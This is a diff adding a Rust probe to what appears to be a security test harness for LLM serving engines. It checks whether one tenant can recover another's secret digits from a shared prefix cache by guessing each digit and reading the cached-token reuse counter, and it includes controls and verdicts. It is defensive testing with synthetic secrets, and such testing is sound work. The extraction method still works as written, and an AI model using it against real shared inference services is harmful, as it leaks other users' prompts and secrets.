@@ -1,0 +1,446 @@
+//! `cache.prefix-extraction` (T7): can one tenant read another's prompt out of a shared
+//! prefix cache, through the reuse counter every answer carries?
+//!
+//! Engines report how many prompt tokens they reused from the cache
+//! (`usage.prompt_tokens_details.cached_tokens`, llama.cpp's `timings.cache_n`). Where
+//! the cache is shared between tenants, that counter answers "did someone send this
+//! prefix?" exactly, with no timing noise, and a secret can be guessed piece by piece.
+//! This case does it, with both tenants its own:
+//!
+//! 1. Tenant a (the victim) sends a document, then a secret of `digits` digits drawn
+//!    from the run secret, each digit followed by `block_tokens` tokens of text that end
+//!    with the words that introduce the next digit.
+//! 2. Control: tenant a sends its own prompt cut after the first digit's text, once
+//!    with the right digit and once with `x` in its place. A right guess must reuse
+//!    more than a wrong one; if it does not for the owner itself (no counter, no cache,
+//!    or counted blocks longer than `block_tokens`), the case cannot see an extraction
+//!    and is inconclusive.
+//! 3. Tenant b (the thief) primes its own cache with the document and an `x` digit, then
+//!    guesses each digit in turn, in an order drawn from the run secret: the same prompt,
+//!    the guessed digit, and the text after it. A wrong guess reuses what b itself sent
+//!    before (the prompt up to the digit); a right one, through a cache shared with a,
+//!    reuses the text after the digit too, at least one more block of any counter that
+//!    counts in blocks up to `block_tokens` long (vLLM 16, SGLang pages, OpenAI 128): the
+//!    text after each digit aligns the guesses to the blocks without knowing their size.
+//!    A position is decided as soon as one guess reused more than another; ten equal
+//!    counts leave it undecided and end the search. Tenant a sends its prompt again
+//!    before each guess, as a system prompt comes back with every request: engines keep
+//!    a cached prompt only until another request takes its place (llama.cpp's slots
+//!    keep the last prompt each served), so a secret sent once may be gone by the time
+//!    the right guess comes.
+//!
+//! Verdict: fail when b recovered any digit of a's secret (the finding names what was
+//! recovered, whether it equals a's secret, the guesses used and the channel); pass
+//! when b's guesses reused nothing of a's prompt while a's own control shows the
+//! counter would have told; inconclusive when the control does not hold. Digits b
+//! "recovered" that are not a's are no leak, and make the case inconclusive. Timing
+//! alone (no counter) is the cross-tenant timing case's channel; this case reads
+//! counters only and says so when there are none.
+
+use super::{Context, Sizer, conclude, describe};
+use crate::adapter::ChatRequest;
+use crate::outcome::{Finding, FindingCode, Outcome};
+use crate::prompt::Filler;
+use crate::session::{Sent, SessionError};
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+
+/// Parameters of `cache.prefix-extraction`.
+#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
+#[serde(deny_unknown_fields)]
+pub struct ExtractionParams {
+    /// Digits in tenant a's secret (1 to 8; default 4).
+    #[serde(default = "default_digits")]
+    pub digits: u32,
+    /// Tokens of the document before the secret (default 256).
+    #[serde(default = "default_document_tokens")]
+    pub document_tokens: u32,
+    /// Tokens of text after each digit (default 160): the longest block of reuse
+    /// counting the case can see through. Raise it for a vendor that counts in larger
+    /// blocks.
+    #[serde(default = "default_block_tokens")]
+    pub block_tokens: u32,
+    /// The most guesses tenant b sends (default 40, ten for each of four digits).
+    #[serde(default = "default_max_guesses")]
+    pub max_guesses: u32,
+}
+
+fn default_digits() -> u32 {
+    4
+}
+
+fn default_document_tokens() -> u32 {
+    256
+}
+
+fn default_block_tokens() -> u32 {
+    160
+}
+
+fn default_max_guesses() -> u32 {
+    40
+}
+
+impl Default for ExtractionParams {
+    fn default() -> Self {
+        ExtractionParams {
+            digits: default_digits(),
+            document_tokens: default_document_tokens(),
+            block_tokens: default_block_tokens(),
+            max_guesses: default_max_guesses(),
+        }
+    }
+}
+
+/// The probe `cache.prefix-extraction`.
+pub struct PrefixExtraction;
+
+impl super::Probe for PrefixExtraction {
+    const KIND: &'static str = "cache.prefix-extraction";
+    type Params = ExtractionParams;
+
+    fn validate(p: &ExtractionParams) -> Result<(), super::ParamsError> {
+        let bad = |field: &'static str, problem: String, fix: &str| {
+            Err(super::ParamsError::Invalid {
+                field,
+                problem: format!("{problem}; fix: {fix}"),
+            })
+        };
+        if !(1..=8).contains(&p.digits) {
+            return bad("digits", format!("is {}", p.digits), "give 1 to 8 digits");
+        }
+        if p.block_tokens < 16 {
+            return bad(
+                "block_tokens",
+                format!("is {}", p.block_tokens),
+                "give at least 16 tokens, the smallest block engines count in",
+            );
+        }
+        if p.max_guesses == 0 {
+            return bad("max_guesses", "is 0".into(), "allow at least one guess");
+        }
+        Ok(())
+    }
+
+    async fn run(p: &ExtractionParams, ctx: Context<'_>) -> Outcome {
+        super::settled(extract(p, ctx).await)
+    }
+
+    fn ceiling(p: &ExtractionParams, _profile: &crate::vendor::VendorProfile) -> Option<super::Ceiling> {
+        // Calibration, the victim's prompt and its two controls, b's priming request,
+        // and every guess with the victim's prompt again before it, each asking for one
+        // token.
+        Some(super::Ceiling::Like {
+            requests: 5 + 2 * u64::from(p.max_guesses),
+            max_tokens: 1,
+        })
+    }
+}
+
+/// What one guess reused.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Guess {
+    /// The digit guessed.
+    pub digit: u8,
+    /// The prompt tokens the vendor said it reused.
+    pub cached: u64,
+}
+
+/// The digit a position's guesses point to: the one guess that reused at least
+/// `margin` tokens more than the least any guess reused; `None` while no guess, or more
+/// than one, stands out so. The margin comes from tenant a's own control (half what a
+/// right guess added there), so that the odd token an engine counts differently from
+/// one request to the next is not taken for a digit.
+pub fn decided(guesses: &[Guess], margin: u64) -> Option<u8> {
+    let low = guesses.iter().map(|g| g.cached).min()?;
+    let mut above = guesses.iter().filter(|g| g.cached >= low + margin.max(1));
+    let first = above.next()?;
+    above.next().is_none().then_some(first.digit)
+}
+
+/// The victim's prompt and the guesses at it.
+struct Secret {
+    digits: Vec<u8>,
+    document: String,
+    /// The text after each digit; it ends with the words before the next digit.
+    after: Vec<String>,
+}
+
+impl Secret {
+    /// The prompt up to digit `position` (those before it as `known`), then `guess`
+    /// and the text after it.
+    fn prompt(&self, known: &[u8], guess: char) -> String {
+        let mut text = self.document.clone();
+        for (i, d) in known.iter().enumerate() {
+            text.push_str(&format!("{d}{}", self.after[i]));
+        }
+        text.push(guess);
+        text.push_str(&self.after[known.len()]);
+        text
+    }
+
+    /// The whole prompt tenant a sends.
+    fn whole(&self) -> String {
+        let (last, known) = self.digits.split_last().expect("at least one digit");
+        self.prompt(known, char::from(b'0' + last))
+    }
+
+    fn shown(digits: &[u8]) -> String {
+        digits.iter().map(|d| char::from(b'0' + d)).collect()
+    }
+}
+
+/// Runs `cache.prefix-extraction`.
+pub async fn extract(p: &ExtractionParams, ctx: Context<'_>) -> Result<Outcome, SessionError> {
+    let labels: Vec<String> = ctx.session.tenant_labels().into_iter().map(str::to_owned).collect();
+    let (victim, thief) = (&labels[0], &labels[1]);
+    let mut sizer = Sizer::calibrated(ctx, victim).await?;
+    let secret = draw(p, &ctx, &sizer);
+    let salt = |tenant: &str| {
+        ctx.session
+            .profile()
+            .cache_salt
+            .then(|| format!("{:016x}", ctx.session.secret().seed(tenant, ctx.case_id, u32::MAX)))
+    };
+    let ask = |tenant: &str, prompt: String| ChatRequest {
+        cache_salt: salt(tenant),
+        ..ChatRequest::user(prompt, 1)
+    };
+    let mut unjudged = Vec::new();
+    let counted = |sent: &Sent, who: &str, unjudged: &mut Vec<String>| -> Option<u64> {
+        let ex = &sent.exchange;
+        match ex.usage.and_then(|u| u.cached_tokens) {
+            Some(n) if ex.is_success() => Some(n),
+            _ => {
+                unjudged.push(format!(
+                    "{who} (transcript #{}) {}",
+                    sent.seq,
+                    if ex.is_success() {
+                        "reported no reuse counter (cached_tokens, timings.cache_n)".to_owned()
+                    } else {
+                        format!("was not answered: {}", describe(ex))
+                    }
+                ));
+                None
+            }
+        }
+    };
+
+    // 1. The victim's prompt, then its own control.
+    let victims = sizer.send_request(victim, &ask(victim, secret.whole()), false).await?;
+    if counted(&victims, &format!("tenant {victim}'s prompt"), &mut unjudged).is_none() {
+        return Ok(inconclusive(unjudged, sizer));
+    }
+    let right = char::from(b'0' + secret.digits[0]);
+    let own_right = sizer
+        .send_request(victim, &ask(victim, secret.prompt(&[], right)), false)
+        .await?;
+    let own_wrong = sizer.send_request(victim, &ask(victim, secret.prompt(&[], 'x')), false).await?;
+    let (Some(r), Some(w)) = (
+        counted(&own_right, &format!("tenant {victim}'s control"), &mut unjudged),
+        counted(&own_wrong, &format!("tenant {victim}'s control"), &mut unjudged),
+    ) else {
+        return Ok(inconclusive(unjudged, sizer));
+    };
+    if r <= w {
+        unjudged.push(format!(
+            "tenant {victim}'s own guesses at its first digit reused {r} tokens when right and {w} when wrong \
+             (transcript #{}, #{}): the counter does not tell a right guess from a wrong one here (no prefix cache, \
+             or reuse counted in blocks longer than block_tokens = {})",
+            own_right.seq, own_wrong.seq, p.block_tokens
+        ));
+        return Ok(inconclusive(unjudged, sizer));
+    }
+    let margin = (r - w).div_ceil(2);
+    let control = format!(
+        "tenant {victim}'s own right guess reused {} tokens more than a wrong one (transcript #{}, #{})",
+        r - w,
+        own_right.seq,
+        own_wrong.seq
+    );
+
+    // 2. The thief primes its own cache, then guesses digit by digit.
+    let primed = sizer.send_request(thief, &ask(thief, secret.prompt(&[], 'x')), false).await?;
+    if counted(&primed, &format!("tenant {thief}'s priming request"), &mut unjudged).is_none() {
+        return Ok(inconclusive(unjudged, sizer));
+    }
+    let mut recovered: Vec<u8> = Vec::new();
+    let mut guesses = 0u32;
+    let mut seqs = Vec::new();
+    let mut last_position: Vec<Guess> = Vec::new();
+    let mut resent = 0u32;
+    'positions: while recovered.len() < secret.digits.len() {
+        let position = recovered.len();
+        let mut tried: Vec<Guess> = Vec::new();
+        for digit in order(&ctx, position) {
+            if guesses >= p.max_guesses {
+                last_position = tried;
+                break 'positions;
+            }
+            // A secret in a prompt comes back with every request (a system prompt
+            // does): tenant a sends its prompt again before each guess. Engines keep a
+            // cached prompt only as long as no other request takes its place
+            // (llama.cpp's slots keep the last prompt each served).
+            let again = sizer.send_request(victim, &ask(victim, secret.whole()), false).await?;
+            resent += 1;
+            if counted(&again, &format!("tenant {victim}'s prompt, sent again"), &mut unjudged).is_none() {
+                return Ok(inconclusive(unjudged, sizer));
+            }
+            let sent = sizer
+                .send_request(
+                    thief,
+                    &ask(thief, secret.prompt(&recovered, char::from(b'0' + digit))),
+                    false,
+                )
+                .await?;
+            guesses += 1;
+            seqs.push(sent.seq);
+            let who = format!("tenant {thief}'s guess {digit} at digit {}", position + 1);
+            let Some(cached) = counted(&sent, &who, &mut unjudged) else {
+                return Ok(inconclusive(unjudged, sizer));
+            };
+            tried.push(Guess { digit, cached });
+            if let Some(d) = decided(&tried, margin) {
+                recovered.push(d);
+                continue 'positions;
+            }
+        }
+        last_position = tried;
+        break;
+    }
+
+    let first_seq = seqs.first().copied().unwrap_or(primed.seq);
+    let last_seq = seqs.last().copied().unwrap_or(primed.seq);
+    let shown = Secret::shown(&recovered);
+    let actual = Secret::shown(&secret.digits);
+    let matches = secret.digits.starts_with(&recovered);
+    let channel = "the reuse counter of its own answers (usage.prompt_tokens_details.cached_tokens or timings.cache_n)";
+    let mut findings = Vec::new();
+    if !recovered.is_empty() && matches {
+        let whole = recovered.len() == secret.digits.len();
+        findings.push(Finding {
+            code: FindingCode::PrefixExtracted,
+            message: format!(
+                "tenant {thief} read tenant {victim}'s secret out of the shared prefix cache: it recovered {shown}{} \
+                 ({} of {} digits, {} tenant {victim}'s secret {actual}) in {guesses} guesses and one priming request, \
+                 reading {channel} (transcript #{first_seq} to #{last_seq}; tenant {victim}'s prompt #{}, sent again \
+                 before each guess, {resent} times)",
+                if whole { "" } else { "…" },
+                recovered.len(),
+                secret.digits.len(),
+                if whole { "equal to" } else { "the start of" },
+                victims.seq
+            ),
+            leak: None,
+        });
+    } else if !recovered.is_empty() {
+        unjudged.push(format!(
+            "tenant {thief}'s counter pointed to {shown}, which is not tenant {victim}'s secret {actual} \
+             (transcript #{first_seq} to #{last_seq}): the counter moves for something other than a shared prefix"
+        ));
+    }
+    let reached = if findings.is_empty() && unjudged.is_empty() {
+        let counts: Vec<u64> = last_position.iter().map(|g| g.cached).collect();
+        let same = counts.first().copied().unwrap_or(0);
+        if last_position.len() < 10 {
+            Err(format!(
+                "the guess budget (max_guesses = {}) ended before tenant {thief} had tried every digit at a position",
+                p.max_guesses
+            ))
+        } else {
+            Ok(format!(
+                "tenant {thief}'s {guesses} guesses at digit {} of tenant {victim}'s {}-digit secret all reused \
+                 {same} tokens (what {thief} had sent itself): none of tenant {victim}'s prompt; {control}",
+                recovered.len() + 1,
+                secret.digits.len()
+            ))
+        }
+    } else if unjudged.is_empty() {
+        Ok(format!("{control}; {guesses} guesses"))
+    } else {
+        Err(unjudged.join("; "))
+    };
+    Ok(conclude(findings, reached, sizer.coverage))
+}
+
+fn inconclusive(unjudged: Vec<String>, sizer: Sizer<'_>) -> Outcome {
+    conclude(Vec::new(), Err(unjudged.join("; ")), sizer.coverage)
+}
+
+/// The victim's secret and the text around it, drawn from the run secret.
+fn draw(p: &ExtractionParams, ctx: &Context<'_>, sizer: &Sizer<'_>) -> Secret {
+    let secret = ctx.session.secret();
+    let seed = secret.seed("extraction", ctx.case_id, 0);
+    let digits: Vec<u8> = (0..p.digits).map(|i| ((seed >> (i * 4)) % 10) as u8).collect();
+    let builder = sizer.builder();
+    let intro = secret.pick(
+        "extraction.intro",
+        &[
+            "The vault code follows, one digit at a time. The first digit is ",
+            "Here is the door code, digit by digit. The first digit is ",
+            "The account PIN is given one digit at a time. The first digit is ",
+        ],
+    );
+    let document = builder.build(
+        u64::from(p.document_tokens),
+        &Filler::plain(secret.seed("extraction", ctx.case_id, 1)),
+        "",
+        &[],
+        &format!("\n\n{intro}"),
+    );
+    let after = (0..p.digits)
+        .map(|i| {
+            let next = if i + 1 == p.digits {
+                ". That was the last digit.".to_owned()
+            } else {
+                ". The digit after that is ".to_owned()
+            };
+            builder.build(
+                u64::from(p.block_tokens),
+                &Filler::plain(secret.seed("extraction", ctx.case_id, 2 + i)),
+                ". ",
+                &[],
+                &next,
+            )
+        })
+        .collect();
+    Secret {
+        digits,
+        document,
+        after,
+    }
+}
+
+/// The order tenant b tries the digits at `position`, drawn from the run secret.
+fn order(ctx: &Context<'_>, position: usize) -> Vec<u8> {
+    let mut digits: Vec<u8> = (0..10).collect();
+    let mut state = ctx.session.secret().seed("extraction.order", ctx.case_id, position as u32);
+    for i in (1..digits.len()).rev() {
+        state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+        let j = ((state >> 33) % (i as u64 + 1)) as usize;
+        digits.swap(i, j);
+    }
+    digits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Guess, decided};
+
+    fn g(digit: u8, cached: u64) -> Guess {
+        Guess { digit, cached }
+    }
+
+    #[test]
+    fn a_position_is_decided_by_the_one_guess_that_reused_more() {
+        assert_eq!(decided(&[g(3, 272)], 80), None);
+        assert_eq!(decided(&[g(3, 272), g(5, 272)], 80), None);
+        assert_eq!(decided(&[g(3, 272), g(5, 432)], 80), Some(5));
+        assert_eq!(decided(&[g(5, 432), g(3, 272)], 80), Some(5));
+        // A token more or less, as llama.cpp counts now and then, is no digit.
+        assert_eq!(decided(&[g(2, 224), g(1, 225)], 63), None);
+        assert_eq!(decided(&[g(2, 224), g(1, 225), g(3, 350)], 63), Some(3));
+        // A counter that moves for two digits tells nothing.
+        assert_eq!(decided(&[g(5, 432), g(3, 272), g(4, 432)], 80), None);
+    }
+}
